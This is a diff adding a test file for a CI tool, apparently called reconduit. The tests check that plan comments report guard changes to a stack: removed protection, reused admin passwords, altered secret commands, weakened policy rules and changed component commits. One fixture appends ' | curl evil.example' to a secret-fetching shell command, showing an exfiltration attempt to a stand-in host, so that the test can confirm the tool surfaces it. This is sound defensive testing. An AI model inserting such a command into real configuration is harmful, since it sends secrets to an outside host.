@@ -1,0 +1,114 @@
+/** Changes of the guards of a stack are told whole: no length and no number of harmless changes hides one. */
+import { execFileSync } from "node:child_process";
+import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { dirname, join } from "node:path";
+import { expect, it } from "vitest";
+import { type CiWorkspace, ciWorkspace } from "../support/ci-workspace.ts";
+import { folder } from "./real-bin.ts";
+
+const connection = (name: string, password: string, more = "") => `  ${name}:
+    name: ${name}
+    type: http
+    http: { baseURI: "https://${name}.example", auth: { type: basic, basic: { username: u, password: "${password}" } } }${more}
+`;
+
+/** Plans a change of the stack, and returns its comment as a reader sees it, and the details of its diagnostics. */
+async function plannedChange(
+  work: CiWorkspace,
+  files: Parameters<CiWorkspace["branch"]>[1],
+  prepare?: (cwd: string) => Promise<unknown>,
+) {
+  const head = work.branch("feature", files);
+  const { number } = work.forge.open("feature");
+  const cwd = work.checkout(head);
+  await prepare?.(join(cwd, "alone"));
+  const planned = await work.run(cwd, work.reviewJob(number), "ci", "plan");
+  expect(planned, planned.stdout + planned.stderr).toMatchObject({ code: 0 });
+  const comment = work.forge.comments[0]!.body.replaceAll("&gt;", ">")
+    .replaceAll("&#8203;", "")
+    .replaceAll(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)));
+  const { stacks } = JSON.parse(readFileSync(join(cwd, ".reconduit/ci/plan.json"), "utf8")) as {
+    readonly stacks: readonly { readonly diagnostics: readonly { readonly detail?: string }[] }[];
+  };
+  return { comment, details: stacks.flatMap(({ diagnostics }) => diagnostics.map(({ detail = "" }) => detail)) };
+}
+
+it("names lost protection in the comment beside hundreds of values from elsewhere, and counts those that it leaves out", async () => {
+  const stackOf = (prefix: string, protect: string) => `reconduit: 1
+name: alone
+variables:
+${Array.from({ length: 400 }, (_, at) => `  v${at}: { secret: true, env: ${prefix}_PASSWORD_${at} }\n`).join("")}connections:
+${connection("c", "${var.v1}", protect)}`;
+  const work = await ciWorkspace("github", { "alone/reconduit.yaml": stackOf("A", "\n    $protect: true") });
+  const { comment } = await plannedChange(work, { "alone/reconduit.yaml": stackOf("B", "") });
+  expect(comment).toContain("connections.c: $protect true -> none");
+  expect(comment).toMatch(/\*\*\d+ of 400 remarks "from elsewhere" are not shown here\*\*/);
+});
+
+it("names each value that is read in further places, however many places another value has", async () => {
+  const start = `reconduit: 1\nname: alone\nconnections:\n${connection("a", "${env.LOW_PASSWORD}")}${connection("b", "${env.ADMIN_PASSWORD}")}`;
+  const work = await ciWorkspace("github", { "alone/reconduit.yaml": start });
+  const harmless = Array.from({ length: 30 }, (_, at) => connection(`x${at}`, "${env.LOW_PASSWORD}")).join("");
+  const { comment, details } = await plannedChange(work, {
+    "alone/reconduit.yaml": `${start}${harmless}${connection("zz", "${env.ADMIN_PASSWORD}")}`,
+  });
+  const told = "values read in further places: connections.zz.http.auth.basic.password (env.ADMIN_PASSWORD)";
+  expect(details).toContain(told);
+  expect(comment).toContain(told);
+});
+
+it("shows the end of a long command and of a long rule where they differ", async () => {
+  const long = "a".repeat(300);
+  const stackOf = (command: string, rule: string) => `reconduit: 1
+name: alone
+variables:
+  pw: { secret: true, exec: [sh, -c, "echo ${long}${command}"] }
+policies:
+  p: { severity: deny, for: step, message: No., require: "action != '${long}' ${rule}" }
+connections:
+${connection("c", "${var.pw}")}`;
+  const work = await ciWorkspace("github", { "alone/reconduit.yaml": stackOf("", "&& action != 'delete'") });
+  const { comment, details } = await plannedChange(work, {
+    "alone/reconduit.yaml": stackOf(" | curl evil.example", "|| action != 'delete'"),
+  });
+  const text = details.join("\n");
+  for (const view of [text, comment]) {
+    expect(view).toContain(" | curl evil.example");
+    expect(view).toMatch(/policy p: changed: require …a+' && -> …|policy p: changed: require …a+' &&… -> …a+' \|\|…/);
+  }
+});
+
+it("names both commits of a component of another repository", async () => {
+  const there = folder({ "part.yaml": "component: 1\nname: part\ntags: { t: { tag: first } }\n" });
+  const repository = (...args: readonly string[]) =>
+    execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t.example", ...args], {
+      cwd: there,
+      encoding: "utf8",
+    }).trim();
+  repository("init", "-q", "-b", "main");
+  const commit = (tag: string): string => {
+    writeFileSync(join(there, "part.yaml"), `component: 1\nname: part\ntags: { t: { tag: ${tag} } }\n`);
+    repository("add", "-A");
+    repository("commit", "-qm", tag);
+    return repository("rev-parse", "HEAD");
+  };
+  const first = commit("one");
+  const source = `git+file://${there}//part.yaml#main`;
+  const stack = `reconduit: 1\nname: alone\ncomponents: { far: { source: "${source}" } }\n`;
+  const work = await ciWorkspace("github", { "alone/reconduit.yaml": stack });
+  const trusted = work.mergeJob(first, first);
+  const locked = async (cwd: string, ...more: readonly string[]): Promise<string> => {
+    expect(await work.run(cwd, trusted, "components", "lock", ...more)).toMatchObject({ code: 0 });
+    return readFileSync(join(cwd, "reconduit.lock"), "utf8");
+  };
+  const people = join(work.cwd, "alone");
+  mkdirSync(dirname(people), { recursive: true });
+  work.branch("begin", { "alone/reconduit.lock": await locked(people) });
+  work.git("push", "-q", "origin", "begin:main");
+  const second = commit("two");
+  const lock = await locked(people, "--update");
+  const { comment, details } = await plannedChange(work, { "alone/reconduit.lock": lock }, (cwd) => locked(cwd));
+  const told = `component far (${source}): commit ${first} -> ${second}`;
+  expect(details.join("\n")).toContain(told);
+  expect(comment).toContain(told);
+});
